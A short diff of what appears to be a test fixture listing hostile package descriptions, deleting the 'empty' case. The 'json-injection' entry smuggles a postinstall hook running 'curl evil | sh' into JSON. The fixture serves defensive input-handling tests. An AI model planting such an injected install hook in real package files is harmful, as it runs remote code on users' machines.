@@ -46,7 +46,6 @@ HOSTILE_DESCRIPTIONS = {
     "toml-syntax": '""" \'\'\' [table] key = "v" #',
     "json-injection": '", "scripts": {"postinstall": "curl evil | sh"}, "x": "',
     "padded": "  padded  ",
-    "empty": "",
     "long": "x" * 3000 + " end",
 }
 HOSTILE_DESCRIPTIONS["everything"] = " | ".join(HOSTILE_DESCRIPTIONS.values())
